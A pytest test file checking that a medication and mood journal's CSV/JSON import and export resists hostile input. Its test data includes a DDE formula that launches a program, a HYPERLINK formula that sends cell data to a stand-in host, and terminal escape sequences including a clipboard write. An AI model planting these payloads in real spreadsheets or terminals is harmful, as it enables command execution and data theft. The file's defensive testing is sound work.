"""Imports that never crash, hang or surprise: every record type comes back, --dry-run
writes nothing, spreadsheet formulas are neutralised on export and restored exactly, and
hostile files (FIFOs, devices, huge, deeply nested, 5,000-digit numbers, NUL) get one
clear sentence."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from ebbtide.core.journal import exchange_read
from ebbtide.core.journal.exchange import (
    CSV_FIELD_LIMIT,
    JournalImportError,
    export_csv,
    export_json,
    import_file,
)
from ebbtide.core.journal.models import DoseInput, SideEffectInput
from ebbtide.core.journal.store import Journal
from ebbtide.core.journal.values import MAX_NOTE_CHARS
from ebbtide.core.practice.records import PracticeRecord

NOW = datetime(2026, 5, 4, 12, 0, tzinfo=timezone(timedelta(hours=2)))
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"click")',
            "@SUM(1)", "-5", "+1", "\tTAB", "\rCR", "'=already quoted", "''-two", "'plain",
            "'", "a=b"]


def _journal(tmp_path: Path, name: str) -> Journal:
    return Journal(tmp_path / name / "journal.sqlite3", clock=lambda: NOW)


def _every_type(j: Journal) -> None:
    med = j.add_medication("=baclofen", strength="-10 mg", schedule="@night", dose_mg=10)
    saved = j.add_checkin(mood=5, anxiety=4, note=FORMULAS[0], at=NOW - timedelta(days=1),
                          doses=[DoseInput(med.id, 10, note="+dose")],
                          side_effects=[SideEffectInput("=effect", "mild", note="@se")])
    assert saved.checkin.id
    j.add_practice(PracticeRecord("breathe", "box-4", NOW - timedelta(hours=2), 60.0, 60.0,
                                  True, 6, 4))
    j.add_selfcheck("phq9", [1] * 9, at=NOW - timedelta(hours=1), difficulty=2)
    plan = j.add_plan(med.id, title="=taper")
    j.add_plan_step(plan.id, "2026-06-01", 20, per_dose="-", note="@step")
    for note in FORMULAS[1:]:
        j.add_checkin(mood=5, anxiety=5, note=note, at=NOW - timedelta(minutes=5))


def _export(j: Journal, path: Path) -> Path:
    buf = io.StringIO(newline="")
    (export_json if path.suffix == ".json" else export_csv)(j, buf)
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    return path


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_every_type_imports_back_and_dry_run_writes_nothing(tmp_path: Path, fmt: str) -> None:
    source = _journal(tmp_path, "a")
    _every_type(source)
    dump = _export(source, tmp_path / f"all.{fmt}")
    target = _journal(tmp_path, "b")
    dry = import_file(target, dump, dry_run=True)
    assert {k: n for k, n in dry.added.items() if n} == {
        "medication": 1, "checkin": len(FORMULAS), "dose": 1, "side_effect": 1,
        "practice": 1, "selfcheck": 1, "plan": 1, "plan_step": 1}
    assert target.count("checkin") == 0 and target.count("medication") == 0
    real = import_file(target, dump)
    assert real.added == dry.added
    again = _export(target, tmp_path / f"again.{fmt}")
    assert again.read_bytes() == dump.read_bytes()


def test_csv_formulas_are_neutralised_and_restored_exactly(tmp_path: Path) -> None:
    source = _journal(tmp_path, "a")
    _every_type(source)
    dump = _export(source, tmp_path / "all.csv")
    rows = list(csv.DictReader(io.StringIO(dump.read_text(encoding="utf-8"), newline="")))
    cells = [v for row in rows for k, v in row.items()
             if k in ("note", "medication", "strength", "schedule", "side_effect", "title",
                      "per_dose") and v]
    assert all(cell[0] not in "=+-@\t\r" for cell in cells), cells
    notes = {row["note"] for row in rows if row["type"] == "checkin"}
    assert "'=cmd|' /C calc'!A0" in notes and "'-5" in notes and "'@SUM(1)" in notes
    assert "'plain" in notes and "'" in notes and "a=b" in notes  # left as they were
    target = _journal(tmp_path, "b")
    import_file(target, dump)
    stored = {c.note for c in target.entries_between(kinds=["checkin"])}  # type: ignore[union-attr]
    assert stored == set(FORMULAS)
    (med,) = target.medications()
    assert (med.name, med.strength, med.schedule) == ("=baclofen", "-10 mg", "@night")


def test_a_note_of_the_full_allowed_length_round_trips_through_csv(tmp_path: Path) -> None:
    source = _journal(tmp_path, "a")
    note = "=" + "x" * (MAX_NOTE_CHARS - 1)
    source.add_checkin(mood=5, anxiety=5, note=note, at=NOW)
    dump = _export(source, tmp_path / "long.csv")
    target = _journal(tmp_path, "b")
    assert import_file(target, dump).added["checkin"] == 1
    (stored,) = target.entries_between(kinds=["checkin"])
    assert stored.note == note  # type: ignore[union-attr]
    text = dump.read_text(encoding="utf-8").replace(note, "y" * (CSV_FIELD_LIMIT + 1))
    (tmp_path / "huge.csv").write_text(text, encoding="utf-8")
    with pytest.raises(JournalImportError, match=r"longer than .* \(a note may hold 1,000,000\)"):
        import_file(target, tmp_path / "huge.csv")


def _json_doc(records: str) -> str:
    return '{"format": "ebbtide-journal", "version": 1, "records": [' + records + "]}"


@pytest.mark.parametrize(("content", "message"), [
    ("[" * 100_000 + "]" * 100_000, "nested far deeper"),
    (_json_doc('{"type": "checkin", "mood": ' + "9" * 5000 + "}"), "5,000 digits"),
    (_json_doc('{"type": "checkin", "mood": 1' + "0" * 5000 + ".5}"), "longer than any"),
    (_json_doc('{"type": "checkin", "mood": NaN}'), "NaN is not a number"),
    (_json_doc('{"type": "checkin", "uid": "a\\u0000b"}'), "uid contains a NUL"),
])
def test_hostile_json_gets_one_sentence(tmp_path: Path, content: str, message: str) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text(content, encoding="utf-8")
    with pytest.raises(JournalImportError, match=message):
        import_file(_journal(tmp_path, "a"), bad)


def test_hostile_csv_numbers_and_nul(tmp_path: Path) -> None:
    source = _journal(tmp_path, "a")
    source.add_checkin(mood=5, anxiety=5, at=NOW)
    text = _export(source, tmp_path / "one.csv").read_text(encoding="utf-8")
    header, row = text.splitlines()[:2]
    for bad_row, message in [(row.replace(",5,5,", "," + "9" * 5000 + ",5,", 1), "mood"),
                             (row.replace("checkin,", "checkin,\x00", 1), "uid contains")]:
        bad = tmp_path / "bad.csv"
        bad.write_text(f"{header}\n{bad_row}\n", encoding="utf-8")
        with pytest.raises(JournalImportError, match=rf"bad.csv line 2: {message}"):
            import_file(_journal(tmp_path, "b"), bad)


def test_escape_sequences_in_text_are_kept_verbatim(tmp_path: Path) -> None:
    note = "\x1b]52;c;aGk=\x07 \x1b[?1049l \x9b31m \u202e nul\x00"
    bad = tmp_path / "theirs.json"
    bad.write_text(_json_doc(
        '{"type": "checkin", "uid": "u1", "at_utc": "2026-05-04T10:00:00Z", '
        '"utc_offset_min": 120, "local_date": "2026-05-04", "mood": 5, "anxiety": 5, '
        '"note": ' + json.dumps(note) + ', "created_utc": '
        '"2026-05-04T10:00:00Z", "updated_utc": "2026-05-04T10:00:00Z"}'), encoding="utf-8")
    j = _journal(tmp_path, "a")
    import_file(j, bad)
    (stored,) = j.entries_between(kinds=["checkin"])
    assert stored.note == note  # type: ignore[union-attr]


def test_fifos_devices_and_folders_are_refused_without_opening(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    j = _journal(tmp_path, "a")
    outcome: list[BaseException] = []

    def attempt() -> None:
        try:
            import_file(j, fifo)
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(timeout=30)  # a hang would be the bug itself
    assert not worker.is_alive(), "importing a FIFO hung"
    assert isinstance(outcome[0], JournalImportError)
    assert "FIFO" in str(outcome[0])
    for path, what in [(Path("/dev/zero"), "a device"), (tmp_path, "a folder")]:
        with pytest.raises(JournalImportError, match=f"cannot import {what}"):
            import_file(j, path)


def test_a_file_over_the_size_cap_is_refused(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exchange_read, "MAX_IMPORT_BYTES", 1024)
    big = tmp_path / "big.csv"
    big.write_bytes(b"x" * 2048)
    with pytest.raises(JournalImportError, match="larger than"):
        import_file(_journal(tmp_path, "a"), big)
